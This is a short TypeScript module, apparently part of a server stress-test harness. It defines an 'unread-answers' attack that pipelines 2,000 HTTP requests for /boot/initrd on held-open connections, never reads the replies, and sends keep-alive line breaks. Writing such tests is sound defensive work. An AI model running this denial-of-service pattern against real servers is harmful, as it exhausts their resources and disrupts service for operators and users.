// Thousands of requests on each of a few connections, and no answer is ever read.
import type { Attack } from '../attack.ts';
import { keepOpen } from '../connections.ts';

const REQUESTS = 'GET /boot/initrd HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(2000);

export const unreadAnswers: Attack = {
  name: 'unread-answers',
  what: '2,000 requests for initrd on a connection, no answer read',
  run: (ground, count) =>
    keepOpen(
      ground,
      {
        ...{ port: 80, from: ground.addresses.slice(0, 10), each: 3, burst: 3, pauseMs: 250 },
        onOpen: (socket) => {
          socket.pause();
          socket.write(REQUESTS);
          // Nothing is read, so nothing else tells that the connection is over.
          const asking = setInterval(() => socket.write('\r\n'), 250);
          socket.once('close', () => clearInterval(asking));
        },
      },
      count,
    ),
};
